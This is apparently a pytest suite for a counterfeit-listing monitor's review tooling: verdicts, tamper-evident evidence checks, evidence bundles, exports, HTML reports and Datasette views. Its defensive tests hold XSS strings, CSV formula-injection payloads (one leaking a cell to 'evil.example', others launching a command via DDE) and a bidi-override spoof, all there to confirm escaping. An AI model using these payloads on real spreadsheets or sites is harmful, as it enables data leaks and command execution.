"""Review and evidence: verdicts, verify, bundles, export, report, Datasette."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import sqlite3
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner

from crawler.cli import main
from crawler.evidence import Capture
from crawler.items import Listing
from crawler.review.datasette import PLUGINS_DIR, browse_metadata
from crawler.store import blobs
from crawler.store.writer import CatalogPhoto, Store
from matchers.images import ImageHashes, ImageMatch, Reference, analyse_image
from matchers.score import MatchResult, Signal
from tests.conftest import DEMO

CATALOG = DEMO / "brand" / "catalog"
SITES = DEMO / "sites"
PAGE = b"<html><body><h1>Nordvik Trail Backpack 30L replica</h1><p>$29.99</p></body></html>"


def capture(kind: str, url: str, body: bytes, content_type: str) -> Capture:
    return Capture(kind=kind, url=url, final_url=url, status=200,
                   headers={"Content-Type": [content_type]}, body=body,
                   captured_at="2026-11-20T10:00:00.000+00:00")


def make_listing(n: int, title: str, score: int, image: Path | None) -> Listing:
    url = f"http://bazaar.test/item/{n}"
    item = Listing(site="bazaar", url=url, title=title, price=Decimal("29.99"),
                   currency="USD", seller=f"seller{n}", sources={"title": "selector"})
    item.captures.append(capture("page", url, PAGE.replace(b"30L", f"{n}".encode()),
                                 "text/html"))
    if image is not None:
        data = image.read_bytes()
        item.image_url = f"http://bazaar.test/img/{n}.jpg"
        item.image = analyse_image(data)
        item.captures.append(capture("image", item.image_url, data, "image/jpeg"))
    reference = Reference("Nordvik Trail Backpack 30L", "trail-30.jpg", "original",
                          ImageHashes(0, 0))
    item.match = MatchResult(
        score=score, flagged=score >= 50, product="Nordvik Trail Backpack 30L",
        signals=(Signal("vocabulary", "suspicion", 40, "title contains 'replica'"),),
        image_match=ImageMatch(reference, 2, 1))
    return item


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "review.db"
    store = Store.open(path)
    photo = CATALOG / "trail-30.jpg"
    store.sync_catalog([CatalogPhoto("Nordvik Trail Backpack 30L", photo, 129.0, "USD",
                                     analyse_image(photo.read_bytes()))])
    run = store.start_run("monitor.toml", ["bazaar"])
    store.write_batch([
        make_listing(1, "Nordvik Trail Backpack 30L replica", 90, SITES / "bazaar/img/b2.jpg"),
        make_listing(2, "<script>alert('x')</script> Nordvik 1:1", 80, SITES / "bazaar/img/b3.jpg"),
        make_listing(3, "Alplux Hiker Backpack", 0, None),
    ], run)
    store.finish_run(run, status="finished", finish_reason="finished", stats={})
    store.close()
    return path


def cli(*args: str) -> object:
    return CliRunner().invoke(main, list(args))


def queue(db: Path) -> list[int]:
    conn = sqlite3.connect(db)
    try:
        return [r[0] for r in conn.execute("SELECT listing_id FROM review_queue")]
    finally:
        conn.close()


# -- verdicts ----------------------------------------------------------------------

def test_verdict_on_several_listings_leaves_the_queue(db: Path) -> None:
    assert queue(db) == [1, 2]
    result = cli("verdict", "--db", str(db), "1", "2", "counterfeit", "--note", "stolen photo",
                 "--by", "ana")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[:2] == [
        "listing 1 (bazaar, score 90, 'Nordvik Trail Backpack 30L replica'): counterfeit",
        "listing 2 (bazaar, score 80, \"<script>alert('x')</script> Nordvik 1:1\"): counterfeit"]
    assert re.fullmatch(r"head \d+ [0-9a-f]{64}", lines[2])  # the chain, verdicts included
    assert queue(db) == []
    conn = sqlite3.connect(db)
    rows = conn.execute("SELECT listing_id, verdict, note, decided_by FROM verdict_history"
                        ).fetchall()
    assert rows == [(1, "counterfeit", "stolen photo", "ana"), (2, "counterfeit", "stolen photo", "ana")]


def test_a_different_verdict_is_never_overwritten_silently(db: Path) -> None:
    cli("verdict", "--db", str(db), "1", "counterfeit", "--by", "ana")
    refused = cli("verdict", "--db", str(db), "1", "genuine", "--by", "bo")
    assert refused.exit_code == 1
    assert "listing 1 is already counterfeit (ana," in refused.output
    assert "--replace" in refused.output
    replaced = cli("verdict", "--db", str(db), "1", "genuine", "--by", "bo", "--replace")
    assert replaced.output.splitlines()[0].endswith(
        "'Nordvik Trail Backpack 30L replica'): genuine (was counterfeit)")
    conn = sqlite3.connect(db)
    history = conn.execute("SELECT verdict, decided_by, replaces_id FROM verdict_history "
                           "WHERE listing_id = 1").fetchall()
    assert history == [("counterfeit", "ana", None), ("genuine", "bo", 1)]
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        conn.execute("UPDATE verdicts SET verdict = 'dismissed'")


def test_verdict_on_an_unknown_listing_changes_nothing(db: Path) -> None:
    result = cli("verdict", "--db", str(db), "1", "99", "counterfeit")
    assert result.exit_code == 2 and "no listing with id 99" in result.output
    assert queue(db) == [1, 2]


def test_a_verdict_on_a_listing_never_flagged_needs_force(db: Path) -> None:
    refused = cli("verdict", "--db", str(db), "1", "3", "counterfeit")
    assert refused.exit_code == 2
    assert ("listing 3 (bazaar, score 0, 'Alplux Hiker Backpack') was never flagged; check "
            "the id") in refused.output and "--force" in refused.output
    assert queue(db) == [1, 2]  # all or none: listing 1 was not recorded either
    forced = cli("verdict", "--db", str(db), "3", "genuine", "--force")
    assert forced.exit_code == 0
    assert forced.output.splitlines()[0] == \
        "listing 3 (bazaar, score 0, 'Alplux Hiker Backpack'): genuine"


# -- evidence ----------------------------------------------------------------------

def test_verify_passes_on_untouched_evidence(db: Path) -> None:
    result = cli("verify", "--db", str(db))
    assert result.exit_code == 0, result.output
    assert "5 blobs, 5 captures, 5 custody log entries verified" in result.output


def tamper(db: Path, sql: str, params: list, table: str) -> None:
    conn = sqlite3.connect(db)
    conn.execute(f"DROP TRIGGER {table}_no_update")  # what a tamperer would do first
    conn.execute(sql, params)
    conn.commit()
    conn.close()


def test_one_changed_byte_of_a_stored_page_is_named(db: Path) -> None:
    conn = sqlite3.connect(db)
    sha, encoding, data = conn.execute(
        "SELECT sha256, encoding, data FROM blobs WHERE media_type = 'text/html' "
        "ORDER BY rowid LIMIT 1").fetchone()
    conn.close()
    page = bytearray(blobs.decode(encoding, data))
    page[30] ^= 1  # one bit of one byte, recompressed cleanly
    encoding, packed = blobs.encode(bytes(page))
    tamper(db, "UPDATE blobs SET data = ?, encoding = ? WHERE sha256 = ?", [packed, encoding, sha],
           "blobs")
    result = cli("verify", "--db", str(db))
    assert result.exit_code == 1
    assert f"first mismatch: blobs {sha}: content hashes to" in result.output


def test_one_changed_byte_of_a_stored_image_is_named(db: Path) -> None:
    conn = sqlite3.connect(db)
    sha, data = conn.execute("SELECT sha256, data FROM blobs WHERE media_type = 'image/jpeg' "
                             "LIMIT 1").fetchone()
    conn.close()
    raw = bytearray(data)
    raw[len(raw) // 2] ^= 0xFF
    tamper(db, "UPDATE blobs SET data = ? WHERE sha256 = ?", [bytes(raw), sha], "blobs")
    result = cli("verify", "--db", str(db))
    assert result.exit_code == 1 and f"blobs {sha}" in result.output


def test_a_changed_custody_log_entry_is_named(db: Path) -> None:
    tamper(db, "UPDATE custody_log SET content = replace(content, 'bazaar.test', 'bazaar.tesT') "
               "WHERE id = 3", [], "custody_log")
    result = cli("verify", "--db", str(db))
    assert result.exit_code == 1
    assert "first mismatch: captures 3: differs from its custody log entry" in result.output
    assert "custody_log 3: content does not match its content_sha256" in result.output


def test_a_rewritten_capture_record_is_named(db: Path) -> None:
    tamper(db, "UPDATE captures SET captured_at = '2026-11-21T00:00:00.000+00:00' WHERE id = 2",
           [], "captures")
    result = cli("verify", "--db", str(db))
    assert result.exit_code == 1
    assert "captures 2: differs from its custody log entry" in result.output


def test_evidence_bundle_checks_with_sha256sum_alone(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "bundle"
    result = cli("evidence", "--db", str(db), "1", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (out / "captures").iterdir()) == ["001-page.html.txt",
                                                                   "002-image.jpg"]
    check = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=out, capture_output=True,
                           text=True)
    # Two captures, the chain segment, its head and the manifest.
    assert check.returncode == 0 and check.stdout.count(": OK") == 5
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["listing"]["url"] == "http://bazaar.test/item/1"
    entry = manifest["captures"][0]["custody_log"]
    assert json.loads(entry["content"])["sha256"] == manifest["captures"][0]["sha256"]
    assert "sha256sum -c SHA256SUMS" in (out / "README.txt").read_text()
    (out / "captures" / "001-page.html.txt").write_bytes(b"<html>changed</html>")
    assert subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=out,
                          capture_output=True).returncode != 0


def test_bundle_files_are_named_by_content_never_by_the_server(tmp_path: Path) -> None:
    db = tmp_path / "b.db"
    store = Store.open(db)
    run = store.start_run("monitor.toml", ["bazaar"])
    item = make_listing(1, "Nordvik Trail Backpack 30L replica", 90, None)
    jpeg_zip = (CATALOG / "trail-30.jpg").read_bytes() + b"PK\x03\x04 a zip appended"
    item.captures = [capture("page", item.url, b"<html><script>alert(1)</script></html>",
                             "application/hta"),
                     capture("image", "http://bazaar.test/1.jpg", jpeg_zip, "application/java-archive"),
                     capture("image", "http://bazaar.test/2.js", b"alert(1)", "text/javascript")]
    store.write_batch([item], run)
    store.add_verdicts([1], "counterfeit", note=None, decided_by="ana")
    store.record_head("verdicts on 1")
    store.close()
    out = tmp_path / "bundle"
    assert cli("evidence", "--db", str(db), "1", "--out", str(out)).exit_code == 0
    assert sorted(p.name for p in (out / "captures").iterdir()) == [
        "001-page.html.txt", "002-image.jpg", "003-image.bin"]
    # The README's own chain check, run as written, says the segment holds.
    readme = (out / "README.txt").read_text()
    snippet = readme[readme.index("python3 -c"):readme.index("The last line")]
    command = snippet.replace("\\\n", "").split("python3 -c ", 1)[1].strip()
    check = subprocess.run(["sh", "-c", f"python3 -c {command}"], cwd=out, capture_output=True,
                           text=True)
    assert check.stdout.strip() == "True", check.stderr
    chain = [json.loads(line) for line in (out / "chain.jsonl").read_text().splitlines()]
    assert (out / "head.txt").read_text() == f"head {chain[-1]['id']} {chain[-1]['entry_hash']}"
    assert [e["kind"] for e in chain] == ["capture"] * 3 + ["verdict"]
    # Never into a folder that holds files already.
    again = cli("evidence", "--db", str(db), "1", "--out", str(out))
    assert again.exit_code == 2 and "exists and is not an empty folder" in again.output


# -- export and report -------------------------------------------------------------

def test_export_takedown_list_csv_and_json(db: Path) -> None:
    cli("verdict", "--db", str(db), "2", "counterfeit")
    rows = list(csv.DictReader(io.StringIO(cli("export", "--db", str(db)).output)))
    assert [r["listing_url"] for r in rows] == ["http://bazaar.test/item/2"]
    row = rows[0]
    assert (row["seller"], row["marketplace"], row["product_infringed"], row["verdict"]) == \
        ("seller2", "bazaar", "Nordvik Trail Backpack 30L", "counterfeit")
    assert row["brand_reference"] == "trail-30.jpg"  # the run's config path is relative
    assert len(row["evidence_sha256"]) == 64 and len(row["custody_entry_hash"]) == 64
    assert row["first_seen"] and row["captured_at"] == "2026-11-20T10:00:00.000+00:00"
    flagged = json.loads(cli("export", "--db", str(db), "--format", "json", "--status",
                             "flagged").output)
    assert [r["listing_url"] for r in flagged] == ["http://bazaar.test/item/1"]


def test_report_is_self_contained_and_escapes_scraped_text(db: Path, tmp_path: Path) -> None:
    cli("verdict", "--db", str(db), "1", "counterfeit")
    out = tmp_path / "report.html"
    assert cli("report", "--db", str(db), "--out", str(out)).exit_code == 0
    html = out.read_text()
    assert "<script>" not in html
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; Nordvik 1:1" in html
    assert html.count("data:image/jpeg;base64,") == 4  # reference + listing photo, twice
    assert "src=\"http" not in html  # nothing fetched when opened
    assert "<svg" in html and "Flags per day" in html
    assert "<td>counterfeit</td><td class='num'>1</td>" in html


# -- Datasette -----------------------------------------------------------------------

@pytest.fixture
def datasette(db: Path):
    from datasette.app import Datasette

    return Datasette([str(db)], metadata=browse_metadata(db, reviewer="ana"),
                     plugins_dir=str(PLUGINS_DIR))


def run(coro):
    return asyncio.run(coro)


def test_datasette_shows_the_queue_first_with_thumbnails(datasette) -> None:
    page = run(datasette.client.get("/review")).text
    assert page.index("Review queue: flagged listings awaiting a verdict") < page.index("Tables")
    queue_page = run(datasette.client.get("/review/review_queue")).text
    assert queue_page.count('<img src="data:image/jpeg;base64,') == 4
    rows = run(datasette.client.get("/review/review_queue.json?_shape=array")).json()
    assert [r["listing_id"] for r in rows] == [1, 2]


@pytest.mark.parametrize("sql, says", [
    ("INSERT INTO verdicts (listing_id, verdict, decided_by, decided_at) "
     "VALUES (99, 'counterfeit', 'ana', 'now')", "no listing with this id"),
    ("INSERT INTO verdicts (listing_id, verdict, decided_by, decided_at) "
     "VALUES (1, 'genuine', 'ana', 'now')", "name it in replaces_id"),
    ("INSERT INTO verdicts (listing_id, verdict, decided_by, decided_at) "
     "VALUES (2, 'counterfeit', ' ', 'now')", "records who decided"),
    ("INSERT INTO verdicts (listing_id, verdict, decided_by, decided_at) "
     "VALUES (2, 'maybe', 'ana', 'now')", "CHECK constraint failed"),
    ("INSERT INTO verdicts (listing_id, verdict, decided_by, decided_at) "
     "VALUES (2, 'undone', 'ana', 'now')", "undone undoes a verdict"),
])
def test_verdict_rules_hold_for_any_sql_tool(db: Path, sql: str, says: str) -> None:
    cli("verdict", "--db", str(db), "1", "counterfeit", "--by", "bo")
    conn = sqlite3.connect(db)  # DB Browser for SQLite, say: no foreign keys turned on
    with pytest.raises(sqlite3.IntegrityError, match=says):
        conn.execute(sql)
    ok = "INSERT INTO verdicts (listing_id, verdict, decided_by, decided_at, replaces_id) " \
         "VALUES (1, 'genuine', 'ana', 'now', (SELECT max(id) FROM verdicts WHERE listing_id = 1))"
    conn.execute(ok)  # replacing, explicitly: allowed
    conn.commit()


def test_datasette_canned_queries_answer(datasette) -> None:
    top = run(datasette.client.get("/review/top_risks_per_site.json?_shape=array")).json()
    assert [r["listing_id"] for r in top] == [1, 2]
    seller = run(datasette.client.get(
        "/review/seller_listings.json?_shape=array&seller=seller3")).json()
    assert [r["title"] for r in seller] == ["Alplux Hiker Backpack"]
    new = run(datasette.client.get("/review/new_since_last_run.json?_shape=array")).json()
    assert len(new) == 3


def test_every_table_and_column_is_described(db: Path) -> None:
    meta = browse_metadata(db)["databases"]["review"]["tables"]
    conn = sqlite3.connect(db)
    names = [r[0] for r in conn.execute(
        "SELECT name FROM sqlite_master WHERE type IN ('table', 'view') "
        "AND name NOT LIKE 'listings_fts%' AND name NOT LIKE '\\_%' ESCAPE '\\' "
        "AND name NOT LIKE 'sqlite_%'")]
    for name in names:
        assert meta.get(name, {}).get("description"), name
        for (column,) in conn.execute(f"SELECT name FROM pragma_table_info('{name}')"):
            assert meta[name]["columns"].get(column), f"{name}.{column}"


def test_full_text_search_over_titles(datasette) -> None:
    rows = run(datasette.client.get("/review/listings.json?_search=alplux&_shape=array")).json()
    assert [r["id"] for r in rows] == [3]


# -- verdicts feed back into matching ------------------------------------------------

def test_confirmed_counterfeit_photos_join_the_known_set(db: Path) -> None:
    from crawler.catalog import known_counterfeits
    from matchers.images import ReferenceIndex

    store = Store.open(db)
    run = store.start_run("monitor.toml", ["bazaar"])
    store.write_batch([make_listing(4, "Nordvik jacket, own photo", 60,
                                    SITES / "bazaar/img/b8.jpg")], run)
    store.add_verdicts([1, 4], "counterfeit", note=None, decided_by="ana")
    store.close()
    official = ReferenceIndex.from_photos([("Nordvik Trail Backpack 30L", CATALOG / "trail-30.jpg")])
    known = known_counterfeits(str(db), official, image_score=28)
    # Listing 1 used the official photo: adding it would flag every genuine reseller.
    assert [(r.photo, r.variant) for r in known] == [("confirmed counterfeit #4",
                                                      "known-counterfeit")]


def test_a_relisting_with_a_confirmed_counterfeits_photo_is_flagged(db: Path) -> None:
    from matchers.images import ReferenceIndex
    from matchers.score import Catalog, CatalogProduct, ListingFacts, score_listing

    photo = analyse_image((SITES / "bazaar/img/b8.jpg").read_bytes()).hashes
    known = Reference("Nordvik Summit Down Jacket", "confirmed counterfeit #4",
                      "known-counterfeit", photo)
    catalog = Catalog(brand_names=("Nordvik",),
                      products=(CatalogProduct("Nordvik Summit Down Jacket", Decimal("249"), "USD"),),
                      references=ReferenceIndex([known]))
    result = score_listing(ListingFacts(title="Warm winter jacket", price=Decimal("200"),
                                        currency="USD", image_hashes=(photo,)), catalog)
    assert result.flagged
    assert result.reasons[:2] == [
        "image: 0 bits from the photo of confirmed counterfeit #4 (Nordvik Summit Down Jacket)",
        "same photo as confirmed counterfeit #4: a re-listing",
    ]


def test_a_verdict_outlives_the_next_crawl(db: Path) -> None:
    cli("verdict", "--db", str(db), "1", "genuine")
    store = Store.open(db)
    run = store.start_run("monitor.toml", ["bazaar"])
    store.write_batch([make_listing(1, "Nordvik Trail Backpack 30L replica", 95,
                                    SITES / "bazaar/img/b2.jpg")], run)
    store.close()
    assert queue(db) == [2]


# -- output that cannot be turned against its reader ---------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1"]


def test_a_csv_of_hostile_titles_opens_with_no_formula(tmp_path: Path) -> None:
    db = tmp_path / "hostile.db"
    store = Store.open(db)
    run = store.start_run("monitor.toml", ["bazaar"])
    store.write_batch([make_listing(n, title, 90, None) for n, title in enumerate(HOSTILE, 1)],
                      run)
    store.add_verdicts(list(range(1, len(HOSTILE) + 1)), "counterfeit", note="=1+2",
                       decided_by="ana")
    store.close()
    rows = list(csv.reader(io.StringIO(cli("export", "--db", str(db)).output)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    titles = {row[rows[0].index("listing_title")] for row in rows[1:]}
    assert titles == {"'" + t for t in HOSTILE}  # shown as text, nothing lost


def test_bidi_controls_are_shown_not_obeyed_on_display(tmp_path: Path) -> None:
    db = tmp_path / "bidi.db"
    store = Store.open(db)
    run = store.start_run("monitor.toml", ["bazaar"])
    item = make_listing(1, "Nordvik Trail Backpack 30L replica", 90, None)
    item.seller = "Nordvik \u202eerotS laiciffO"
    store.write_batch([item], run)
    store.add_verdicts([1], "counterfeit", note=None, decided_by="ana")
    store.close()
    row = next(csv.DictReader(io.StringIO(cli("export", "--db", str(db)).output)))
    assert row["seller"] == "Nordvik <U+202E>erotS laiciffO"
    out = tmp_path / "r.html"
    cli("report", "--db", str(db), "--out", str(out))
    html = out.read_text(encoding="utf-8")
    assert "\u202e" not in html and "Nordvik &lt;U+202E&gt;erotS laiciffO" in html
    # Datasette shows it written out too; its JSON keeps the data as it is.
    from datasette.app import Datasette

    browse = Datasette([str(db)], metadata=browse_metadata(db), plugins_dir=str(PLUGINS_DIR))
    page = asyncio.run(browse.client.get("/bidi/listings")).text
    assert "Nordvik &lt;U+202E&gt;erotS laiciffO" in page and "\u202e" not in page
    # The evidence keeps what the page said.
    assert sqlite3.connect(db).execute("SELECT seller FROM listings").fetchone()[0] == \
        "Nordvik \u202eerotS laiciffO"


def test_the_report_is_bounded_by_default(db: Path, tmp_path: Path) -> None:
    store = Store.open(db)  # 2 open flags already; 5 more
    run = store.start_run("monitor.toml", ["bazaar"])
    store.write_batch([make_listing(n, f"Nordvik Trail Backpack 30L replica {n}", 90,
                                    SITES / "bazaar/img/b2.jpg") for n in range(4, 9)], run)
    store.close()
    conn = sqlite3.connect(db)  # a verdict decided long ago (as a migration would have kept it)
    conn.execute("INSERT INTO verdicts (listing_id, verdict, decided_by, decided_at) "
                 "VALUES (8, 'counterfeit', 'ana', '2020-01-01T00:00:00+00:00')")
    conn.commit()
    conn.close()
    out = tmp_path / "r.html"
    assert cli("report", "--db", str(db), "--out", str(out), "--photos", "3").exit_code == 0
    html = out.read_text()
    assert html.count("data:image/jpeg;base64,") == 6  # two photos for each of 3 rows
    assert html.count("in cfmon browse") == 3  # the other open flags say where photos are
    assert "replica 8" not in html  # decided in 2020: outside the last 30 days
    cli("report", "--db", str(db), "--out", str(out), "--all")
    assert "replica 8" in out.read_text()


def test_the_readmes_db_browser_insert_records_a_verdict(db: Path) -> None:
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    section = readme[readme.index("### DB Browser for SQLite"):]
    sql = re.search(r"```sql\n(.*?)```", section, re.S).group(1).replace("(12,", "(1,")
    conn = sqlite3.connect(db)  # as DB Browser for SQLite opens it: no foreign keys on
    conn.execute(sql)
    conn.commit()
    assert queue(db) == [2]
    assert conn.execute("SELECT verdict, decided_by FROM latest_verdicts").fetchall() == \
        [("counterfeit", "ana")]
